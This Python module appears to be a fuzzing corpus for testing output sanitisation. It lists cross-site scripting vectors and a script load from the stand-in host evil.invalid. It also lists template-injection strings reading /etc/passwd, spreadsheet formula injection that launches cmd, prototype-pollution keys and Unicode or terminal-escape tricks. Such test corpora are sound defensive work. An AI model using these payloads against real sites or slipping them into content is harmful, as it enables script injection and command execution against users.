"""A corpus of texts that try to run, to call home, to break out of their cell or to turn what stands beside them."""

from __future__ import annotations

_RUN = "window.hacked=1;alert(1)"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<<script>{_RUN}//<</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    "<script src=//evil.invalid/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'",
    f'<IMG SRC=x OnErRoR="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    f"<a href=javascript:{_RUN}>press</a>",
    f"<form action=javascript:{_RUN}><button>press</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';body{display:none}</style>",
]
BREAKOUTS = [
    f"\"><svg onload={_RUN}>",
    f"'><svg onload={_RUN}>",
    f"\" onmouseover=\"{_RUN}\" x=\"",
    f"' autofocus onfocus='{_RUN}' x='",
    f"` onerror={_RUN} `",
    "</title></style></textarea></noscript></template></table></main><plaintext>",
    "<!--", "-->", "<!-- --!><img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;b&amp;gt;",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "%{customdata[0]}", "%{text}<extra></extra>", "<b>bold</b><br><sub>x</sub>", "constructor.constructor('alert(1)')()",
    "\"};alert(1);//", "');alert(1);//", "\\\";alert(1);//", "__proto__", "constructor", "</SCRIPT\u2028>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
    "javascript://www.amazon.com/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "//evil.invalid/x", "https://www.amazon.com.evil.invalid/dp/B0KEENRST1", "https://evil.invalid/?\"><script>alert(1)</script>",
]  # fmt: skip
TURNED = [
    "\u202egnp.exe", "\u2066\u2067abc\u2069", "\u200f\u200e\u061cx", "مرحبا بالعالم، كيف تشحذ السكين؟", "איך משחיזים סכין?",
    "ltr שלום 123 مرحبا ltr", "Z" + "\u0301\u0323\u0336" * 60 + "algo", "e" + "\u20dd" * 40, "กำ" + "\u0e49" * 40,
    "🏳️‍🌈👩‍👩‍👧‍👦" * 20, "w" * 3000, "宽" * 400, "\u200b" * 500 + "x", "\ufeffbom", "\U000e0041\U000e0042tags", "a\u2028b\u2029c",
    "﷽" * 40, "\x1b[2J\x1b[31mred", "\x00nul", "\x85nel\x9b31m", "a\rb\nc\td",
]  # fmt: skip
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(1)", "\t=1+1", '=HYPERLINK("//evil.invalid")']

PAYLOADS = [*SCRIPTS, *BREAKOUTS, *ADDRESSES, *TURNED, *FORMULAS]
